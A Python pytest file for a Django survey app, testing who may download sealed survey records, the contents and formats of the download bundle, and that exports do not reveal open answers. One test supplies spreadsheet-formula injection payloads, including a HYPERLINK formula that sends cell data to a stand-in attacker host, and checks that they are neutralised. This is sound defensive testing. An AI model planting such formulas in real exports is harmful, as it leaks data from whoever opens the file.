"""Who downloads record files, and that these are a function of what they may show."""

import csv
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from zipfile import ZipFile

import numpy as np
import pyreadstat
import pytest
from django.test import Client
from pyarrow import parquet

from accounts.models import History, Person
from intake.models import Inbox
from intake.recordfiles import spss_and_stata_variables
from intake.recordfiles.download import hand_over_file
from privacy.records import RecordRow
from surveys.lifecycle import state_changes as lifecycle
from surveys.models import Survey
from tests.cast import As
from tests.intake import asked, filed
from tests.releases import surveyed
from tests.releases.surveyed import Row
from tests.runs import sealed
from tests.surveys.conftest import ASKS, NOW, Allow

pytestmark = pytest.mark.page
ROWS = [RecordRow(1, (0, 1)), RecordRow(1, (1, 0)), RecordRow(0, (1, 1))] * 10


@pytest.fixture
def finished(survey: Survey) -> Survey:
    filed.seal(survey, ASKS, ROWS)
    return sealed.finish(survey)


@pytest.fixture
def allowed(finished: Survey, allow: Allow) -> Survey:
    """A finished survey of which a reviewer allows the record files."""
    allow(finished)
    return finished


def page(client: Client, survey: Survey) -> str:
    answer = client.get(f"/app/surveys/{survey.pk}/records")
    assert answer.status_code == 200
    return answer.content.decode()


def download(client: Client, survey: Survey, kind: str = "csv") -> ZipFile:
    answer = client.post(f"/app/surveys/{survey.pk}/records", {"kind": kind})
    assert answer.status_code == 200
    assert answer["Content-Type"] == "application/zip"
    return ZipFile(io.BytesIO(b"".join(answer.streaming_content)))  # type: ignore[attr-defined]


def test_nothing_leaves_before_a_reviewer_said_yes(finished: Survey, owner: Person, signed_in_as: As) -> None:
    client = signed_in_as(owner)
    assert client.post(f"/app/surveys/{finished.pk}/records", {"kind": "csv"}).status_code == 403
    shown = page(client, finished)
    assert f'href="/app/surveys/{finished.pk}/ask"' in shown
    assert 'name="kind"' not in shown


def test_owner_editor_and_reviewer_download_once_it_is_allowed_and_a_viewer_does_not(
    allowed: Survey,
    owner: Person,
    reviewer: Person,
    works_on: Callable[..., Person],
    signed_in_as: As,
) -> None:
    shown = page(signed_in_as(owner), allowed)
    assert "Ruth Reviewer approved this on" in shown
    assert "single a person out" in shown
    assert "<dd>30</dd>" in shown
    for person in (owner, reviewer, works_on(allowed, may_edit=True)):
        assert len(download(signed_in_as(person), allowed).read("records.csv").splitlines()) == 31
    client = signed_in_as(works_on(allowed, may_edit=False))
    assert client.post(f"/app/surveys/{allowed.pk}/records", {"kind": "csv"}).status_code == 403
    assert 'name="kind"' not in page(client, allowed)


TELLS = "reveals whether a withheld answer lets the question appear"


def test_the_page_says_what_the_rows_of_open_answers_hold(
    survey: Survey, owner: Person, signed_in_as: As
) -> None:
    client = signed_in_as(owner)
    assert "Those who chose none are in it once the survey is finished." in page(client, survey)
    shown = page(client, sealed.finish(survey))
    assert "They are true from people who chose no disguise" in shown
    assert "This file has no rows of people who chose no disguise" in shown
    assert TELLS not in shown


def test_the_page_says_what_rules_tell_of_those_who_answered_openly(owner: Person, signed_in_as: As) -> None:
    plain, sensitive = ASKS.as_json()["sections"]
    ruled = [{**question, "show_if": {"age": ["40+"]}} for question in sensitive["questions"]]
    for opens in (True, False):
        asks = asked.written(plain, {**sensitive, "questions": ruled}, open_answers=opens)
        shown = page(signed_in_as(owner), sealed.finish(asked.survey(asks, owner=owner)))
        assert (TELLS in shown) is opens
        assert ("They are true from people who chose no disguise" in shown) is opens
        assert ("withheld in the rows of people" in shown) is opens


def test_a_bundle_brings_codebook_script_and_design(
    finished: Survey, owner: Person, allow: Allow, signed_in_as: As
) -> None:
    Inbox.objects.create(survey=finished, record=b"100")
    allow(finished)
    bundle = download(signed_in_as(owner), finished)
    assert bundle.namelist() == ["codebook.md", "analysis.R", "analysis.py", "design.json", "records.csv"]
    lines = bundle.read("records.csv").decode().splitlines()
    assert sorted(set(lines[1:])) == ["disguised,18-39,yes", "disguised,40+,no", "open,?,yes"]
    assert bundle.read("design.json").decode() == ASKS.canonical
    assert "Records: 30, of which 20 disguised and 10 open" in bundle.read("codebook.md").decode()
    for script in ("analysis.R", "analysis.py"):
        assert bundle.read(script).decode().startswith("# Work & health\n")


def test_no_cell_of_a_download_is_computed_by_who_opens_it(
    owner: Person, allow: Allow, signed_in_as: As
) -> None:
    formula = '=HYPERLINK("http://attacker.example/"&A1,"see")'
    question = {"name": "+1+2", "choices": [formula, "@SUM(A1)"]}
    asks = asked.written({"kind": "plain", "questions": [question]}, least=20)
    survey = asked.survey(asks, owner=owner)
    filed.seal(survey, asks, [RecordRow(1, (0,)), RecordRow(1, (1,))] * 20)
    allow(survey)
    lines = download(signed_in_as(owner), survey).read("records.csv").decode().splitlines()
    cells = [row[1] for row in csv.reader(lines)]
    assert {*cells} == {"'+1+2", f"'{formula}", "'@SUM(A1)"}


def test_a_bundle_speaks_the_downloaders_language(allowed: Survey, owner: Person, signed_in_as: As) -> None:
    owner.language = "zh-hans"
    owner.save()
    bundle = download(signed_in_as(owner), allowed, "parquet")
    assert "工作" in bundle.read("codebook.md").decode().splitlines()[0]
    table = parquet.read_table(io.BytesIO(bundle.read("records.parquet")))
    assert "是" in table.schema.field("theft").metadata[b"candor:labels"].decode()


def test_the_other_formats_hold_the_same_records_and_each_download_stands_in_the_history(
    allowed: Survey, owner: Person, signed_in_as: As, tmp_path: Path
) -> None:
    client = signed_in_as(owner)
    table = parquet.read_table(io.BytesIO(download(client, allowed, "parquet").read("records.parquet")))
    assert sorted(table["age"].to_pylist()) == ["18-39"] * 10 + ["40+"] * 10 + ["?"] * 10
    (tmp_path / "records.sav").write_bytes(download(client, allowed, "sav").read("records.sav"))
    data, about = pyreadstat.read_sav(tmp_path / "records.sav", output_format="dict")
    assert sorted(data["theft"]) == [0] * 10 + [1] * 20
    assert about.file_label == "Work & health"
    entries = History.objects.about(allowed).filter(what="intake.records-downloaded").order_by("pk")
    assert [(entry.who, entry.note) for entry in entries] == [(owner, "Parquet, 30"), (owner, "SPSS, 30")]
    answer = client.post(f"/app/surveys/{allowed.pk}/records", {"kind": "xls"})
    assert answer.status_code == 422


def test_too_many_cells_for_spss_are_refused_with_the_way_out(
    allowed: Survey, owner: Person, signed_in_as: As, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(spss_and_stata_variables, "MOST_CELLS", 89)
    client = signed_in_as(owner)
    answer = client.post(f"/app/surveys/{allowed.pk}/records", {"kind": "sav"}, follow=True)
    assert "Take CSV or Parquet" in answer.content.decode()
    monkeypatch.setattr(spss_and_stata_variables, "MOST_CELLS", 90)
    assert "records.sav" in download(client, allowed, "sav").namelist()


def test_before_the_first_batch_there_is_nothing_to_download(
    survey: Survey, owner: Person, allow: Allow, signed_in_as: As
) -> None:
    allow(survey)
    client = signed_in_as(owner)
    assert "No answers are sealed yet" in page(client, survey)
    answer = client.post(f"/app/surveys/{survey.pk}/records", {"kind": "csv"}, follow=True)
    assert "No answers are sealed yet" in answer.content.decode()
    assert not History.objects.about(survey).filter(what="intake.records-downloaded").exists()


def test_a_draft_has_none_yet(draft: Survey, owner: Person, signed_in_as: As) -> None:
    assert "once the survey has been opened" in page(signed_in_as(owner), draft)


def test_a_destroyed_survey_has_none_any_more(
    survey: Survey, owner: Person, allow: Allow, signed_in_as: As
) -> None:
    filed.seal(survey, ASKS, ROWS)
    allow(survey)
    lifecycle.close_survey(survey, owner, NOW)
    lifecycle.destroy_survey(survey, owner, NOW)
    client = signed_in_as(owner)
    assert "have been deleted" in page(client, survey)
    answer = client.post(f"/app/surveys/{survey.pk}/records", {"kind": "csv"}, follow=True)
    assert answer["Content-Type"].startswith("text/html")


# --- A record file is a function of what it may show

DISGUISED = surveyed.everybody(12)


def files(owner: Person, opened: list[Row], *, finished: bool, order: int = 0) -> dict[str, list[bytes]]:
    """By name the lines of each file; those of the records sorted, since their order is drawn."""
    rows = DISGUISED + opened
    rows = [rows[place] for place in np.random.default_rng(order).permutation(len(rows))]
    behind = {"name": "theft", "choices": ["no", "yes"], "show_if": {"age": ["young", "grown"]}}
    sections = json.loads(surveyed.design().canonical)["sections"]
    of = surveyed.design(sections=[sections[0], {**sections[1], "questions": [behind]}])
    survey = surveyed.survey(owner, [applied(row) for row in rows], of=of)
    if finished:
        sealed.finish(survey)
    data = zipfile.ZipFile(io.BytesIO(b"".join(hand_over_file(survey, owner, "csv", "en", NOW))))
    found = {name: data.read(name).splitlines() for name in data.namelist()}
    return {name: sorted(lines) if name == "records.csv" else lines for name, lines in found.items()}


def applied(row: Row) -> Row:
    """The old are not shown the sensitive question."""
    group, age, town, theft = row
    return (group, age, town, 3 if age == 2 else theft)


YOUNG = surveyed.opened(surveyed.people((0, 0, 20)))
ELSEWHERE = surveyed.opened(surveyed.people((1, 2, 20)))
FEW_OLD = surveyed.opened(surveyed.people((2, 1, 4)))


@pytest.mark.django_db
def test_before_a_survey_is_finished_its_file_does_not_depend_on_open_answers(owner: Person) -> None:
    first = files(owner, YOUNG, finished=False)
    assert first == files(owner, ELSEWHERE, finished=False, order=1)
    assert first == files(owner, [*YOUNG, *FEW_OLD], finished=False, order=2)


@pytest.mark.django_db
def test_afterwards_it_shows_of_open_ones_neither_plain_answers_nor_those_left_out(owner: Person) -> None:
    """Town and age differ within one pattern; four with another pattern are left out with the next group."""
    first = files(owner, YOUNG, finished=True)
    assert sum(line.startswith(b"open") for line in first["records.csv"]) == 20
    assert first == files(owner, ELSEWHERE, finished=True, order=1)
    with_few = files(owner, [*YOUNG, *FEW_OLD], finished=True)
    assert with_few == files(owner, [*ELSEWHERE, *FEW_OLD[:3]], finished=True, order=2)
